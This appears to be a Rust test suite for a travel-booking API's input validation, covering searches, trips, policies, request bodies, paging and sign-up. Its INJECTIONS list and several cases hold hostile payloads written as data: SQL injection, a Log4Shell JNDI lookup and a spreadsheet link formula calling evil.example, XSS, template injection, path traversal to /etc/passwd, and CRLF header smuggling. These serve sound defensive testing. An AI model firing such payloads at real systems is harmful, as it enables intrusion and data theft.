//! What is sent by mistake or malice: each answered by a problem with a stable code and the field,
//! with nothing written.

use nestmap_core::testing::fixture;
use serde_json::{Value, json};

use crate::client::Reply;
use crate::server::{Login, Server, policy, search};

/// A problem's status, code and field.
type Wrong = (u16, &'static str, &'static str);

#[track_caller]
fn assert_wrong(reply: &Reply, (status, code, field): Wrong, what: &str) {
    assert_eq!(reply.problem(status), code, "{what}");
    let named = reply.body["field"].as_str().unwrap_or("");
    assert_eq!(named, field, "{what}: {}", reply.body);
    let kind = reply.text("/type");
    assert!(kind.ends_with(&format!("/problems/{code}")), "{kind}");
}

async fn server() -> (Server, Login) {
    let server = Server::start().await;
    let admin = server.company("Acme").await;
    server.profile(&admin).await;
    server.sell([fixture::flight("off_1", "412.50")]);
    (server, admin)
}

fn with(mut value: Value, pointer: &str, part: Value) -> Value {
    *value.pointer_mut(pointer).unwrap() = part;
    value
}

#[tokio::test]
async fn searches_that_cannot_be_flown() {
    let (server, admin) = server().await;
    let before = server.audit(&admin).await.len();
    let back = |day: &str| {
        let mut request = search();
        let slice = json!({ "origin": "JFK", "destination": "FRA", "departure_date": day });
        request["slices"].as_array_mut().unwrap().push(slice);
        request
    };
    let passengers = |list: Value| {
        let mut request = search();
        request["passengers"] = list;
        request
    };
    let adult = json!({ "kind": "adult" });
    let infant = json!({ "kind": "infant" });
    let slices =
        |n: usize| with(search(), "/slices", json!(vec![search()["slices"][0].clone(); n]));
    let cases: Vec<(&str, Value, Wrong)> = vec![
        (
            "unknown airport",
            with(search(), "/slices/0/origin", json!("XXX")),
            (422, "unknown-airport", "slices[0].origin"),
        ),
        (
            "airport in lower case",
            with(search(), "/slices/0/origin", json!("fra")),
            (422, "unknown-airport", "slices[0].origin"),
        ),
        (
            "an airport that is SQL",
            with(search(), "/slices/0/destination", json!("' or 1=1 --")),
            (422, "unknown-airport", "slices[0].destination"),
        ),
        (
            "no such day",
            with(search(), "/slices/0/departure_date", json!("2026-02-30")),
            (422, "invalid-field", "slices[0].departure_date"),
        ),
        (
            "yesterday",
            with(search(), "/slices/0/departure_date", json!("2026-03-01")),
            (422, "invalid-search", "slices[0].departure_date"),
        ),
        (
            "in two years",
            with(search(), "/slices/0/departure_date", json!("2028-03-01")),
            (422, "invalid-search", "slices[0].departure_date"),
        ),
        (
            "return before outbound",
            back("2026-03-15"),
            (422, "invalid-search", "slices[1].departure_date"),
        ),
        (
            "to where one is",
            with(search(), "/slices/0/destination", json!("FRA")),
            (422, "invalid-search", "slices[0].destination"),
        ),
        ("no slices", slices(0), (422, "invalid-search", "slices")),
        ("seven slices", slices(7), (422, "invalid-search", "slices")),
        ("nobody", passengers(json!([])), (422, "invalid-search", "passengers")),
        (
            "ten passengers",
            passengers(json!(vec![adult.clone(); 10])),
            (422, "invalid-search", "passengers"),
        ),
        ("an infant alone", passengers(json!([infant])), (422, "invalid-search", "passengers")),
        (
            "two infants, one adult",
            passengers(json!([adult, infant, infant])),
            (422, "invalid-search", "passengers"),
        ),
        (
            "a child without age",
            passengers(json!([adult, { "kind": "child" }])),
            (422, "invalid-search", "passengers[1].age"),
        ),
        (
            "an age that is text",
            passengers(json!([{ "kind": "adult", "age": "30" }])),
            (422, "invalid-field", "passengers[0].age"),
        ),
        (
            "a passenger that is a dog",
            passengers(json!([{ "kind": "dog" }])),
            (422, "invalid-field", "passengers[0].kind"),
        ),
        (
            "three connections",
            {
                let mut r = search();
                r["max_connections"] = json!(3);
                r
            },
            (422, "invalid-search", "max_connections"),
        ),
        (
            "an id of another kind",
            {
                let mut r = search();
                r["traveler"] = json!(admin.organization);
                r
            },
            (422, "invalid-field", "traveler"),
        ),
    ];
    for (what, body, wrong) in cases {
        let reply = server.post(&admin, "/searches", body).await;
        let wrong =
            if what == "an id of another kind" { (400, "invalid-id", "traveler") } else { wrong };
        assert_wrong(&reply, wrong, what);
    }
    assert_eq!(server.audit(&admin).await.len(), before, "nothing was written");
}

#[tokio::test]
async fn trips_that_cannot_be_drafted() {
    let (server, admin) = server().await;
    let found = server.post(&admin, "/searches", search()).await.expect(201);
    let before = server.audit(&admin).await.len();
    let flight = json!({
        "kind": "flight", "offer_set": found.text("/id"), "offer": found.text("/offers/0/offer/id"),
    });
    let stay = json!({
        "property": "Inn", "place": "NYC", "check_in": "2026-03-16", "check_out": "2026-03-18",
        "nightly": { "amount": "180.00", "currency": "EUR" },
    });
    let trip = |item: Value| json!({ "title": "X", "items": [item] });
    let stay = |pointer: &str, part: Value| {
        trip(json!({ "kind": "stay", "stay": with(stay.clone(), pointer, part) }))
    };
    let mut mixed = stay("/property", json!("Inn"));
    mixed["items"][0]["stay"]["nightly_tax"] = json!({ "amount": "5.00", "currency": "USD" });
    let absent = format!("off_{}", "7".repeat(26));
    let person = &admin.person;
    let cases: Vec<(&str, Value, Wrong)> = vec![
        ("no title", json!({}), (422, "invalid-field", "title")),
        ("an empty title", json!({ "title": " " }), (422, "invalid-field", "title")),
        (
            "a title of a megabyte's half",
            json!({ "title": "x".repeat(500_000) }),
            (422, "invalid-field", "title"),
        ),
        (
            "a title with a header in it",
            json!({ "title": "x\r\nset-cookie: a=b" }),
            (422, "invalid-field", "title"),
        ),
        ("a title with a zero", json!({ "title": "x\u{0}y" }), (422, "invalid-field", "title")),
        (
            "nobody travels",
            json!({ "title": "X", "travelers": [] }),
            (422, "invalid-trip", "travelers"),
        ),
        (
            "somebody twice",
            json!({ "title": "X", "travelers": [person, person] }),
            (422, "invalid-trip", "travelers"),
        ),
        (
            "a traveler that is text",
            json!({ "title": "X", "travelers": ["ana"] }),
            (400, "invalid-id", "travelers[0]"),
        ),
        (
            "an unknown kind",
            trip(json!({ "kind": "boat" })),
            (422, "invalid-field", "items[0].kind"),
        ),
        (
            "an offer that isn't there",
            trip(with(flight.clone(), "/offer", json!(absent))),
            (404, "not-found", "items[0]"),
        ),
        (
            "an offer that is a trip",
            trip(with(flight.clone(), "/offer", json!("trip_1"))),
            (400, "invalid-id", "items[0].offer"),
        ),
        (
            "too much for one night",
            stay("/nightly/amount", json!("99999999999999999999")),
            (422, "invalid-money", "items[0].stay.nightly.amount"),
        ),
        (
            "half a cent",
            stay("/nightly/amount", json!("1.005")),
            (422, "invalid-money", "items[0].stay.nightly.amount"),
        ),
        (
            "a number for money",
            stay("/nightly/amount", json!(180)),
            (422, "invalid-field", "items[0].stay.nightly.amount"),
        ),
        (
            "no currency of ours",
            stay("/nightly/currency", json!("XXX")),
            (422, "unknown-currency", "items[0].stay.nightly.currency"),
        ),
        ("mixed currencies", mixed, (422, "currency-mismatch", "items[0].stay.nightly_tax")),
        (
            "leaving before arriving",
            stay("/check_out", json!("2026-03-15")),
            (422, "invalid-trip", "items[0].stay.check_out"),
        ),
        (
            "no such place",
            stay("/place", json!("QQQ")),
            (422, "unknown-airport", "items[0].stay.place"),
        ),
        (
            "twenty-one items",
            json!({ "title": "X", "items": vec![flight.clone(); 21] }),
            (422, "invalid-trip", "items"),
        ),
    ];
    for (what, body, wrong) in cases {
        let reply = server.post(&admin, "/trips", body).await;
        assert_wrong(&reply, wrong, what);
    }
    server.clock.advance_seconds(45 * 60);
    let admin = server.log_in("admin@acme.example.com").await;
    let reply = server.post(&admin, "/trips", trip(flight)).await;
    assert_eq!(reply.problem(409), "offer-expired");
    let after = server.audit(&admin).await;
    let logged_in = 1;
    assert_eq!(after.len(), before + logged_in, "nothing was written");
}

#[tokio::test]
async fn policies_with_mistakes_are_told_all_of_them_with_paths() {
    let (server, admin) = server().await;
    let before = server.audit(&admin).await.len();
    let mut wrong = with(policy("1.00"), "/rules/0/amount/currency", json!("XXX"));
    wrong["rules"][0]["outcome"] = json!("aprove");
    wrong["colour"] = json!("red");
    let reply = server.post(&admin, "/policies", wrong).await;
    assert_eq!(reply.problem(422), "invalid-policy");
    let problems = reply.body["details"]["problems"].as_array().unwrap();
    let paths: Vec<_> = problems.iter().map(|p| p["path"].as_str().unwrap()).collect();
    for path in ["colour", "rules[0].amount", "rules[0].outcome"] {
        assert!(paths.iter().any(|p| p.starts_with(path)), "{path} isn't in {paths:?}");
    }
    assert!(problems.iter().all(|p| !p["expected"].as_str().unwrap().is_empty()));
    let deep = format!("{{\"rules\":{}", "[".repeat(100_000));
    for text in ["", "[]", "{", "{\"schema\":1,\"schema\":2}", "null", &deep] {
        let ask = server.ask("POST", "/api/v1/policies").token(&admin.token).key("k");
        let ask = ask.header("content-type", "application/json").bytes(text.to_owned());
        assert_eq!(ask.send().await.problem(422), "invalid-policy", "{text}");
    }
    assert_eq!(server.audit(&admin).await.len(), before, "nothing was written");
}

#[tokio::test]
async fn bodies_that_are_not_the_json_that_was_expected() {
    let (server, admin) = server().await;
    let send = |kind: &str, body: Vec<u8>| {
        let ask = server.ask("POST", "/api/v1/trips").token(&admin.token).key("k");
        let ask = if kind.is_empty() { ask } else { ask.header("content-type", kind) };
        ask.bytes(body).send()
    };
    let json = "application/json";
    let title = |n: usize| format!("{{\"title\":\"{}\"}}", "x".repeat(n)).into_bytes();
    for (what, kind, body, status, code) in [
        ("nothing", json, vec![], 400, "invalid-body"),
        ("truncated", json, b"{\"title\":\"Os".to_vec(), 400, "invalid-body"),
        ("two values", json, b"{\"title\":\"X\"}{}".to_vec(), 400, "invalid-body"),
        ("not JSON", json, b"title=X".to_vec(), 400, "invalid-body"),
        ("not UTF-8", json, b"{\"title\":\"\xff\xfe\"}".to_vec(), 400, "invalid-body"),
        ("half a surrogate", json, b"{\"title\":\"\\ud800\"}".to_vec(), 400, "invalid-body"),
        ("deep", json, "[".repeat(100_000).into_bytes(), 422, "invalid-field"),
        (
            "deep inside",
            json,
            format!("{{\"title\":{}", "[".repeat(100_000)).into_bytes(),
            422,
            "invalid-field",
        ),
        ("a list", json, b"[]".to_vec(), 422, "invalid-field"),
        (
            "a form",
            "application/x-www-form-urlencoded",
            b"title=X".to_vec(),
            415,
            "unsupported-media-type",
        ),
        ("XML", "application/xml", b"<title/>".to_vec(), 415, "unsupported-media-type"),
        ("no type", "", b"{\"title\":\"X\"}".to_vec(), 415, "unsupported-media-type"),
        ("too large", json, title(2 << 20), 413, "body-too-large"),
    ] {
        let reply = send(kind, body).await;
        assert_eq!(reply.problem(status), code, "{what}");
    }
    let duplicate = send(json, b"{\"title\":\"X\",\"title\":\"Y\"}".to_vec()).await;
    assert_wrong(&duplicate, (422, "invalid-field", "title"), "a field twice");
    send(json, b"{\"title\":\"X\"}".to_vec()).await.expect(201);
}

#[tokio::test]
async fn pages_and_ids_that_are_none() {
    let (server, admin) = server().await;
    for query in
        ["limit=0", "limit=10000", "limit=-1", "limit=abc", "limit=", "after=x", "after=%00"]
    {
        let reply = server.get(&admin, &format!("/trips?{query}")).await;
        assert_eq!(reply.problem(400), "invalid-page", "{query}");
        assert_eq!(reply.text("/field"), query.split('=').next().unwrap());
    }
    let reply = server.get(&admin, "/trips?offset=5").await;
    assert_wrong(&reply, (422, "invalid-field", "offset"), "an unknown parameter");
    let reply = server.get(&admin, "/trips?limit=1&limit=2").await;
    assert_wrong(&reply, (422, "invalid-field", "limit"), "a parameter twice");
    for id in ["1", "trip_1", &admin.person, "trip_%27%20or%201=1", "..", "%2e%2e%2fpeople", "%ff"]
    {
        let reply = server.get(&admin, &format!("/trips/{id}")).await;
        let code = reply.body["code"].as_str().unwrap();
        assert!(["invalid-id", "route-not-found"].contains(&code), "{id}: {}", reply.body);
    }
    let reply = server.get(&admin, "/audit?subject=trip_x").await;
    assert_wrong(&reply, (400, "invalid-id", "subject"), "a subject that is no id");
}

#[tokio::test]
async fn accounts_that_cannot_be_made() {
    let (server, admin) = server().await;
    let sign_up = |field: &str, value: Value| {
        let mut body = Server::sign_up_body("New");
        body[field] = value;
        server.ask("POST", "/api/v1/organizations").key(&server.fresh_key()).json(&body).send()
    };
    for (field, value, wrong) in [
        ("email", json!("ana"), (422, "invalid-field", "email")),
        ("email", json!("a@b.example\r\nbcc: x@y.example"), (422, "invalid-field", "email")),
        ("country", json!("ZZ"), (422, "unknown-country", "country")),
        ("currency", json!("euro"), (422, "unknown-currency", "currency")),
        ("organization", json!(""), (422, "invalid-field", "organization")),
        ("password", json!("short"), (422, "password-weak", "password")),
        ("password", json!("Password1234!"), (422, "password-weak", "password")),
        ("password", json!("admin@new.example.com"), (422, "password-weak", "password")),
        ("password", json!("x".repeat(1_000)), (422, "password-weak", "password")),
        ("admin", json!(true), (422, "invalid-field", "admin")),
    ] {
        assert_wrong(&sign_up(field, value.clone()).await, wrong, &format!("{field} {value}"));
    }
    let invite = |roles: Value| {
        let body = json!({ "email": "x@acme.example.com", "name": "X", "roles": roles });
        server.post(&admin, "/invitations", body)
    };
    assert_wrong(&invite(json!([])).await, (422, "invalid-field", "roles"), "no roles");
    assert_wrong(
        &invite(json!(["king"])).await,
        (422, "invalid-field", "roles[0]"),
        "no such role",
    );
}

/// Everything that ends up in a text column, a log line, a header or a page.
const INJECTIONS: [&str; 8] = [
    "'; drop table trips; --",
    "\" or \"\"=\"",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"https://evil.example\")",
    "../../../../etc/passwd",
    "%s%s%n \u{202e}gnp.exe",
];

#[tokio::test]
async fn text_that_means_something_elsewhere_stays_text_here() {
    let (server, admin) = server().await;
    for text in INJECTIONS {
        let reason = json!({ "code": text, "text": text });
        let trip = json!({ "title": text, "purpose": text, "reason": reason });
        let drafted = server.post(&admin, "/trips", trip).await.expect(201);
        let read = server.get(&admin, &format!("/trips/{}", drafted.text("/id"))).await.expect(200);
        for pointer in ["/title", "/purpose", "/reason/code", "/reason/text"] {
            assert_eq!(read.text(pointer), text);
        }
        let place = json!({
            "roles": ["admin", "member"], "department": text, "grade": text, "cost_center": text,
            "groups": [text],
        });
        let path = format!("/people/{}", admin.person);
        let placed = server.put(&admin, &path, place).await.expect(200);
        assert_eq!(placed.text("/groups/0"), text);
        let cases = [
            ("/me/profile", json!({ "given_name": text }), "given_name"),
            ("/me/profile", json!({ "phone": text }), "phone"),
        ];
        for (path, body, field) in cases {
            let reply = server.put(&admin, path, body).await;
            assert_wrong(&reply, (422, "invalid-field", field), text);
        }
        let email = json!({ "email": text, "name": "X", "roles": ["member"] });
        let reply = server.post(&admin, "/people", email).await;
        assert_wrong(&reply, (422, "invalid-field", "email"), text);
    }
    server.get(&admin, "/trips?limit=100").await.expect(200);
}

#[tokio::test]
async fn control_characters_are_refused_in_every_text() {
    let (server, admin) = server().await;
    for body in [
        json!({ "title": "a\u{1b}[31mred" }),
        json!({ "title": "X", "purpose": "a\u{7}b" }),
        json!({ "title": "X", "reason": { "code": "c", "text": "a\u{0}b" } }),
    ] {
        let reply = server.post(&admin, "/trips", body).await;
        assert_eq!(reply.problem(422), "invalid-field");
    }
    let mut profile = crate::server::profile();
    profile["document"]["number"] = json!("C01\u{0}");
    let reply = server.put(&admin, "/me/profile", profile).await;
    assert_wrong(&reply, (422, "invalid-field", "document.number"), "a zero in a passport");
}
